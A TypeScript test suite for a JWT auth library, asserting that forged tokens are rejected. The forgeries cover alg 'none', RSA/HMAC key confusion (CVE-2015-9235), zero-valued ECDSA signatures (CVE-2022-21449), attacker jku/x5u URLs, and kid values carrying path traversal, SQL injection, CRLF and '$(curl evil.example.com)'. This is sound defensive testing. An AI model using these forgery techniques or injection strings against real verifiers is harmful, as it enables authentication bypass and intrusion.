import { createHmac, generateKeyPairSync, randomBytes, sign, webcrypto, type KeyObject } from 'node:crypto'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { AuthOptions } from '@scopeguard/core'
import { createFakeIssuer, generateSigningKey, type FakeIssuer, type SigningKey } from '@scopeguard/testing'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ADAPTERS } from '../support/adapters.js'
import { b64, b64json, segments, signSegments } from './support/jws.js'
import { failOnProcessErrors } from './support/process-guard.js'
import { expectRejected, rejects, tokenStrings, type Rejection } from './support/rejection.js'
import { bearer, serverPool } from './support/wire.js'

// Family 3: which algorithm and which key verify a token. RFC 8725 §2.1 (alg "none", key
// confusion), §3.1 (an allowlist of algorithms), §3.5 (key sizes), §3.10 (keys named by the
// token are not trusted), CVE-2015-9235 (HS256 keyed with the RSA public key), CVE-2022-21449
// (ECDSA "psychic signatures": r = s = 0 accepted by Java 15-18).
//
// The attacker never holds an issuer's private key: forged tokens are signed by keys of its
// own ("stranger" keys), or carry made-up signatures. Rows signed with the issuer's own key
// say so; there the header is the only thing wrong.

failOnProcessErrors()

const API = 'https://api.example.com'

interface RsaKey {
  privateKey: KeyObject
  publicPem: string
  jwk: Record<string, unknown>
}

interface Keys {
  /** RS256 issuer (the default) and an ES256 one. */
  rs: FakeIssuer
  es: FakeIssuer
  /** Keys the issuers never published. */
  strangerRsa: SigningKey
  strangerEc: SigningKey
  strangerEd: SigningKey
  /** RSA keys below RFC 8725 §3.5's 2048 bits, and a JWKS on 127.0.0.1 that publishes one beside a good key. */
  weak1024: RsaKey
  weak1536: RsaKey
  weakJwksUri: string
  /** A 2048-bit key in the place of the weak ones, for the control. */
  strong2048: RsaKey
}
const keys = {} as Keys
let jwksServer: Server

/** An RSA key pair of `bits` bits; tokens for it are signed through node:crypto, as jose refuses weak keys. */
function rsaKey(bits: number, kid: string): RsaKey {
  const pair = generateKeyPairSync('rsa', { modulusLength: bits })
  return {
    privateKey: pair.privateKey,
    publicPem: pair.publicKey.export({ type: 'spki', format: 'pem' }).toString(),
    jwk: { ...pair.publicKey.export({ format: 'jwk' }), kid, alg: 'RS256', use: 'sig' },
  }
}

beforeAll(async () => {
  ;[keys.rs, keys.es, keys.strangerRsa, keys.strangerEc, keys.strangerEd] = await Promise.all([
    createFakeIssuer(),
    createFakeIssuer({ algorithm: 'ES256' }),
    generateSigningKey('RS256'),
    generateSigningKey('ES256'),
    generateSigningKey('EdDSA'),
  ])
  keys.weak1024 = rsaKey(1024, 'weak-1024')
  keys.weak1536 = rsaKey(1536, 'weak-1536')
  keys.strong2048 = rsaKey(2048, 'strong-2048')
  jwksServer = createServer((_req, res) => {
    res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ keys: [keys.rs.signingKey.publicJwk, keys.weak1024.jwk] }))
  })
  await new Promise<void>((resolve) => jwksServer.listen(0, '127.0.0.1', resolve))
  keys.weakJwksUri = `http://127.0.0.1:${(jwksServer.address() as AddressInfo).port}/jwks`
})
afterAll(async () => {
  await Promise.all([keys.rs.close(), keys.es.close(), new Promise((resolve) => jwksServer.close(resolve))])
})

/** A valid claim set of `issuer`, with read:appointments. */
const claims = (issuer: FakeIssuer): string => b64json(issuer.claims({ scope: 'read:appointments admin' }))
/** A header in the shape the issuers use, with members replaced or added. */
const header = (issuer: FakeIssuer, members: Record<string, unknown>): string =>
  b64json({ alg: issuer.signingKey.alg, typ: 'at+jwt', kid: issuer.signingKey.kid, ...members })
/** `header.payload.` with `signature` (base64url) appended. */
const withSignature = (headerSegment: string, payloadSegment: string, signature: string): string => `${headerSegment}.${payloadSegment}.${signature}`
/** HMAC over the signing input, keyed with `secret`: what CVE-2015-9235 exploits. */
const hmac = (bits: 256 | 384 | 512, secret: string | Buffer, headerSegment: string, payloadSegment: string): string =>
  withSignature(headerSegment, payloadSegment, createHmac(`sha${bits}`, secret).update(`${headerSegment}.${payloadSegment}`).digest('base64url'))
/** RS256 by a node:crypto key (the weak keys: jose and WebCrypto would not sign with them). */
const rs256 = (privateKey: KeyObject, headerSegment: string, payloadSegment: string): string =>
  withSignature(headerSegment, payloadSegment, sign('sha256', Buffer.from(`${headerSegment}.${payloadSegment}`), privateKey).toString('base64url'))
/** PS256 with the RS256 issuer's own private key, re-imported for RSA-PSS. */
async function ps256WithIssuerKey(issuer: FakeIssuer, headerSegment: string, payloadSegment: string): Promise<string> {
  const pkcs8 = await webcrypto.subtle.exportKey('pkcs8', issuer.signingKey.privateKey)
  const privateKey = await webcrypto.subtle.importKey('pkcs8', pkcs8, { name: 'RSA-PSS', hash: 'SHA-256' }, false, ['sign'])
  return signSegments({ alg: 'PS256', privateKey }, headerSegment, payloadSegment)
}

// ECDSA P-256 (RFC 7518 §3.4): the signature is R || S, 32 octets each; n is the group order.
const P256_ORDER = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex')
const psychic = (r: Buffer, s: Buffer) => (k: Keys): Promise<string> | string => {
  const input = [header(k.es, {}), claims(k.es)] as const
  return withSignature(...input, b64(Buffer.concat([r, s])))
}
const ZERO32 = Buffer.alloc(32)

interface KeyCase {
  readonly name: string
  readonly token: (k: Keys) => Promise<string> | string
  readonly expected: Rejection
  /** Options beyond `{ issuer: <RS256 issuer>, audience }`; the ES256 rows name their issuer here. */
  readonly options?: (k: Keys) => Partial<AuthOptions>
  /** Attacker strings besides the token (a kid, a URL). */
  readonly needles?: readonly string[]
}

const NOT_ALLOWED = rejects(401, 'invalid_token', 'algorithm_not_allowed')
const MALFORMED_TOKEN = rejects(401, 'invalid_token', 'token_malformed')
const NO_KEY = rejects(401, 'invalid_token', 'key_not_found')
const BAD_SIGNATURE = rejects(401, 'invalid_token', 'signature_invalid')
const ES_ISSUER = (k: Keys): Partial<AuthOptions> => ({ issuer: k.es.url })

const KID_TRICKS: readonly (readonly [what: string, kid: unknown])[] = [
  ['path traversal', '../../../../etc/passwd'],
  ['an absolute file path', '/dev/null'],
  ['SQL injection', "' OR 1=1 --"],
  ['SQL injection with a statement', '"; DROP TABLE keys; --'],
  ['"__proto__"', '__proto__'],
  ['"constructor"', 'constructor'],
  ['"toString"', 'toString'],
  ['"hasOwnProperty"', 'hasOwnProperty'],
  ['a wildcard', '*'],
  ['the empty string', ''],
  ['a URL', 'https://evil.example.com/jwks.json#key'],
  ['5000 characters', 'k'.repeat(5000)],
  ['a NUL inside', 'key\u0000id'],
  ['CR LF and a header', 'id\r\nSet-Cookie: session=attacker'],
  ['a command substitution', '$(curl evil.example.com)'],
]

const KID_NOT_STRING: readonly (readonly [what: string, kid: unknown])[] = [
  ['a number', 0],
  ['null', null],
  ['true', true],
  ['an object', { $ne: null }],
  ['an array holding a published kid', ['ISSUER_KID']],
]

const CASES: readonly KeyCase[] = [
  // RFC 8725 §2.1 / §3.1, RFC 7518 §3.6: "none" is never accepted, however it is spelled.
  ...['none', 'None', 'NONE', 'nOnE', 'none ', ' none', 'none\u0000'].flatMap((alg): KeyCase[] => [
    { name: `RFC 8725 §3.1: alg ${JSON.stringify(alg)}, empty signature`, token: (k) => withSignature(header(k.rs, { alg }), claims(k.rs), ''), expected: NOT_ALLOWED },
    { name: `RFC 8725 §3.1: alg ${JSON.stringify(alg)}, a made-up signature`, token: (k) => withSignature(header(k.rs, { alg }), claims(k.rs), b64(randomBytes(32))), expected: NOT_ALLOWED },
  ]),
  { name: 'RFC 7515 §4.1.1: alg absent', token: (k) => withSignature(b64json({ typ: 'at+jwt', kid: k.rs.signingKey.kid }), claims(k.rs), ''), expected: MALFORMED_TOKEN },
  ...[['empty', ''], ['null', null], ['a number', 256], ['an array', ['RS256']], ['an object', { name: 'RS256' }]].map(([what, alg]): KeyCase => ({
    name: `RFC 7515 §4.1.1: alg is ${what as string}`,
    token: (k) => withSignature(header(k.rs, { alg }), claims(k.rs), b64(randomBytes(256))),
    expected: MALFORMED_TOKEN,
  })),
  { name: 'RFC 8725 §3.1: alg "RS256 " (trailing space), signed with the issuer\'s key', token: (k) => signSegments(k.rs.signingKey, header(k.rs, { alg: 'RS256 ' }), claims(k.rs)), expected: NOT_ALLOWED },
  { name: 'RFC 8725 §3.1: alg "rs256" (algorithm names are case-sensitive), signed with the issuer\'s key', token: (k) => signSegments(k.rs.signingKey, header(k.rs, { alg: 'rs256' }), claims(k.rs)), expected: NOT_ALLOWED },
  { name: 'RFC 8725 §3.1: alg "RS256\\u0000", signed with the issuer\'s key', token: (k) => signSegments(k.rs.signingKey, header(k.rs, { alg: 'RS256\u0000' }), claims(k.rs)), expected: NOT_ALLOWED },

  // CVE-2015-9235 / RFC 8725 §2.1: HMAC keyed with what the verifier publishes.
  ...([256, 384, 512] as const).flatMap((bits): KeyCase[] => [
    { name: `CVE-2015-9235: HS${bits} keyed with the issuer's public key PEM (SPKI)`, token: (k) => hmac(bits, k.rs.signingKey.publicPem, header(k.rs, { alg: `HS${bits}` }), claims(k.rs)), expected: NOT_ALLOWED },
    { name: `CVE-2015-9235: HS${bits} keyed with the issuer's public JWK as JSON`, token: (k) => hmac(bits, JSON.stringify(k.rs.signingKey.publicJwk), header(k.rs, { alg: `HS${bits}` }), claims(k.rs)), expected: NOT_ALLOWED },
  ]),
  { name: 'CVE-2015-9235: HS256 keyed with the PEM, no kid', token: (k) => hmac(256, k.rs.signingKey.publicPem, b64json({ alg: 'HS256', typ: 'at+jwt' }), claims(k.rs)), expected: NOT_ALLOWED },
  { name: 'CVE-2015-9235: HS256 keyed with the raw RSA modulus', token: (k) => hmac(256, Buffer.from(k.rs.signingKey.publicJwk.n as string, 'base64url'), header(k.rs, { alg: 'HS256' }), claims(k.rs)), expected: NOT_ALLOWED },
  { name: 'CVE-2015-9235: HS256 keyed with the PEM, against the ES256 issuer', options: ES_ISSUER, token: (k) => hmac(256, k.es.signingKey.publicPem, header(k.es, { alg: 'HS256' }), claims(k.es)), expected: NOT_ALLOWED },
  { name: 'RFC 8725 §2.1: an oct key embedded in the header, HS256', token: (k) => hmac(256, 'attacker-secret-of-thirty-two-bytes!', header(k.rs, { alg: 'HS256', jwk: { kty: 'oct', k: b64('attacker-secret-of-thirty-two-bytes!') } }), claims(k.rs)), expected: NOT_ALLOWED },
  {
    // The other direction: an app on a shared secret never accepts an asymmetric alg.
    name: 'RFC 8725 §3.1: an app configured with a secret gets a valid RS256 token',
    options: () => ({ secret: 'a shared secret of at least 32 bytes!!' }),
    token: (k) => k.rs.token({ scope: 'read:appointments' }),
    expected: NOT_ALLOWED,
  },

  // RFC 8725 §3.1: the algorithm must fit the key that verifies it.
  { name: 'RFC 8725 §3.1: ES256 header with the RSA issuer\'s kid (signed by a stranger EC key)', token: (k) => signSegments(k.strangerEc, header(k.rs, { alg: 'ES256' }), claims(k.rs)), expected: NO_KEY },
  { name: 'RFC 8725 §3.1: EdDSA header with the RSA issuer\'s kid (signed by a stranger Ed25519 key)', token: (k) => signSegments(k.strangerEd, header(k.rs, { alg: 'EdDSA' }), claims(k.rs)), expected: NO_KEY },
  { name: 'RFC 7517 §4.4: PS256 with the RSA issuer\'s own key and kid: its JWK says alg RS256', token: (k) => ps256WithIssuerKey(k.rs, header(k.rs, { alg: 'PS256' }), claims(k.rs)), expected: NO_KEY },
  { name: 'RFC 8725 §3.1: RS256 header with the EC issuer\'s kid (signed by a stranger RSA key)', options: ES_ISSUER, token: (k) => signSegments(k.strangerRsa, header(k.es, { alg: 'RS256' }), claims(k.es)), expected: NO_KEY },
  { name: 'RFC 7518 §3.4: ES384 header with the P-256 issuer\'s kid', options: ES_ISSUER, token: (k) => withSignature(header(k.es, { alg: 'ES384' }), claims(k.es), b64(randomBytes(96))), expected: NO_KEY },

  // CVE-2022-21449: ECDSA verification must reject r or s outside [1, n-1].
  { name: 'CVE-2022-21449: ES256 psychic signature r = s = 0', options: ES_ISSUER, token: psychic(ZERO32, ZERO32), expected: BAD_SIGNATURE },
  { name: 'CVE-2022-21449: ES256 r = s = n (the group order)', options: ES_ISSUER, token: psychic(P256_ORDER, P256_ORDER), expected: BAD_SIGNATURE },
  { name: 'CVE-2022-21449: ES256 r = 0 with a real s', options: ES_ISSUER, token: async (k) => { const real = Buffer.from(segments(await k.es.token())[2], 'base64url'); return psychic(ZERO32, real.subarray(32))(k) }, expected: BAD_SIGNATURE },
  { name: 'CVE-2022-21449: ES256 a real r with s = 0', options: ES_ISSUER, token: async (k) => { const real = Buffer.from(segments(await k.es.token())[2], 'base64url'); return psychic(real.subarray(0, 32), ZERO32)(k) }, expected: BAD_SIGNATURE },
  { name: 'CVE-2022-21449: ES256 r = s = 0 in DER form (30 06 02 01 00 02 01 00)', options: ES_ISSUER, token: (k) => withSignature(header(k.es, {}), claims(k.es), b64(Buffer.from('3006020100020100', 'hex'))), expected: BAD_SIGNATURE },
  { name: 'RFC 7518 §3.4: ES256 signature of 64 + 1 zero octets', options: ES_ISSUER, token: (k) => withSignature(header(k.es, {}), claims(k.es), b64(Buffer.alloc(65))), expected: BAD_SIGNATURE },
  { name: 'RFC 7518 §3.4: ES256 empty signature', options: ES_ISSUER, token: (k) => withSignature(header(k.es, {}), claims(k.es), ''), expected: BAD_SIGNATURE },

  // RFC 8725 §3.5: RSA keys of at least 2048 bits. The key is the application's (or the
  // issuer's) mistake, not the client's: the answer is still a clean 401, never a 500.
  { name: 'RFC 8725 §3.5: a 1024-bit RSA key given as a PEM in `keys`', options: (k) => ({ keys: k.weak1024.publicPem }), token: (k) => rs256(k.weak1024.privateKey, b64json({ alg: 'RS256', typ: 'at+jwt' }), claims(k.rs)), expected: rejects(401, 'invalid_token', 'key_unusable') },
  { name: 'RFC 8725 §3.5: a 1536-bit RSA key given as a JWKS in `keys`', options: (k) => ({ keys: { keys: [k.weak1536.jwk] } }), token: (k) => rs256(k.weak1536.privateKey, b64json({ alg: 'RS256', typ: 'at+jwt', kid: 'weak-1536' }), claims(k.rs)), expected: rejects(401, 'invalid_token', 'key_unusable') },
  { name: 'RFC 8725 §3.5: a 1024-bit RSA key published in a JWKS beside a good key', options: (k) => ({ jwksUri: k.weakJwksUri }), token: (k) => rs256(k.weak1024.privateKey, b64json({ alg: 'RS256', typ: 'at+jwt', kid: 'weak-1024' }), claims(k.rs)), expected: NO_KEY },

  // RFC 8725 §3.10 / RFC 7515 §4.1.2-4.1.6: keys and key URLs named by the token are never used.
  { name: 'RFC 8725 §3.10: a stranger key embedded as "jwk", with its own kid', token: (k) => signSegments(k.strangerRsa, header(k.rs, { kid: k.strangerRsa.kid, jwk: k.strangerRsa.publicJwk }), claims(k.rs)), expected: NO_KEY },
  { name: 'RFC 8725 §3.10: a stranger key embedded as "jwk", under the issuer\'s kid', token: (k) => signSegments(k.strangerRsa, header(k.rs, { jwk: k.strangerRsa.publicJwk }), claims(k.rs)), expected: BAD_SIGNATURE },
  { name: 'RFC 8725 §3.10: a stranger key embedded as "jwk", no kid', token: (k) => signSegments(k.strangerRsa, b64json({ alg: 'RS256', typ: 'at+jwt', jwk: k.strangerRsa.publicJwk }), claims(k.rs)), expected: BAD_SIGNATURE },
  { name: 'RFC 8725 §3.10: "jku" pointing at an attacker JWKS, with the stranger\'s kid', token: (k) => signSegments(k.strangerRsa, header(k.rs, { kid: k.strangerRsa.kid, jku: 'https://evil.example.com/jwks.json' }), claims(k.rs)), needles: ['evil.example.com'], expected: NO_KEY },
  { name: 'RFC 8725 §3.10: "jku" pointing at an attacker JWKS, under the issuer\'s kid', token: (k) => signSegments(k.strangerRsa, header(k.rs, { jku: 'https://evil.example.com/.well-known/jwks.json' }), claims(k.rs)), needles: ['evil.example.com'], expected: BAD_SIGNATURE },
  { name: 'RFC 8725 §3.10: "x5u" pointing at an attacker certificate', token: (k) => signSegments(k.strangerRsa, header(k.rs, { x5u: 'https://evil.example.com/cert.pem' }), claims(k.rs)), needles: ['evil.example.com'], expected: BAD_SIGNATURE },
  {
    // The x5c content is never parsed; the stranger's SPKI in base64 stands in for its certificate.
    name: 'RFC 8725 §3.10: "x5c" carrying the stranger key, no kid',
    token: (k) => {
      const spki = k.strangerRsa.publicPem.replace(/-----[A-Z ]+-----|\s/g, '')
      return signSegments(k.strangerRsa, b64json({ alg: 'RS256', typ: 'at+jwt', x5c: [spki] }), claims(k.rs))
    },
    expected: BAD_SIGNATURE,
  },
  { name: 'RFC 8725 §3.10: "x5t#S256" of a stranger certificate', token: (k) => signSegments(k.strangerRsa, header(k.rs, { 'x5t#S256': b64(randomBytes(32)) }), claims(k.rs)), expected: BAD_SIGNATURE },

  // RFC 7515 §4.1.4: kid is only ever compared, exactly, with published kids.
  ...KID_TRICKS.map(([what, kid]): KeyCase => ({
    name: `RFC 7515 §4.1.4: kid ${what}, signed by a stranger`,
    token: (k) => signSegments(k.strangerRsa, header(k.rs, { kid }), claims(k.rs)),
    needles: [kid as string],
    expected: NO_KEY,
  })),
  ...KID_TRICKS.map(([what, kid]): KeyCase => ({
    name: `RFC 7515 §4.1.4: kid ${what}, signed with the issuer's own key`,
    token: (k) => signSegments(k.rs.signingKey, header(k.rs, { kid }), claims(k.rs)),
    needles: [kid as string],
    expected: NO_KEY,
  })),
  ...KID_NOT_STRING.flatMap(([what, kid]): KeyCase[] => {
    const named = (k: Keys) => header(k.rs, { kid: Array.isArray(kid) ? [k.rs.signingKey.kid] : kid })
    return [
      { name: `RFC 7515 §4.1.4: kid is ${what}, signed by a stranger`, token: (k) => signSegments(k.strangerRsa, named(k), claims(k.rs)), expected: NO_KEY },
      { name: `RFC 7515 §4.1.4: kid is ${what}, signed with the issuer's own key`, token: (k) => signSegments(k.rs.signingKey, named(k), claims(k.rs)), expected: NO_KEY },
    ]
  }),
  ...KID_TRICKS.slice(0, 6).map(([what, kid]): KeyCase => ({
    // A PEM in `keys` has no kid and verifies whatever kid a token names: the signature decides.
    name: `RFC 7515 §4.1.4: kid ${what} against a PEM in \`keys\`, signed by a stranger`,
    options: (k) => ({ keys: k.rs.signingKey.publicPem }),
    token: (k) => signSegments(k.strangerRsa, header(k.rs, { kid }), claims(k.rs)),
    needles: [kid as string],
    expected: BAD_SIGNATURE,
  })),
]

describe.each(ADAPTERS)('$name: hostile algorithms and keys (RFC 8725)', (adapter) => {
  const app = (options: Partial<AuthOptions> = {}) => adapter.app({ issuer: keys.rs.url, audience: API, ...options })
  const pool = serverPool()
  afterAll(() => pool.close())

  it('control: each issuer\'s own tokens are accepted', async () => {
    for (const [issuer, options] of [[keys.rs, {}], [keys.es, { issuer: keys.es.url }]] as const) {
      const res = await pool.send(app, options, bearer(await issuer.token({ scope: 'read:appointments' })))
      expect(res.status, res.text).toBe(200)
    }
  })

  it('control: the weak-key rows fail for the key size alone (a 2048-bit key in the same place passes)', async () => {
    const token = rs256(keys.strong2048.privateKey, b64json({ alg: 'RS256', typ: 'at+jwt' }), claims(keys.rs))
    const res = await pool.send(app, { keys: keys.strong2048.publicPem }, bearer(token))
    expect(res.status, res.text).toBe(200)
  })

  it.each(CASES)('$name', async ({ token, expected, options, needles }) => {
    const sent = await token(keys)
    const res = await pool.send(app, options?.(keys) ?? {}, bearer(sent))
    expectRejected(res, expected, [...tokenStrings(sent), ...(needles ?? [])])
  })
})
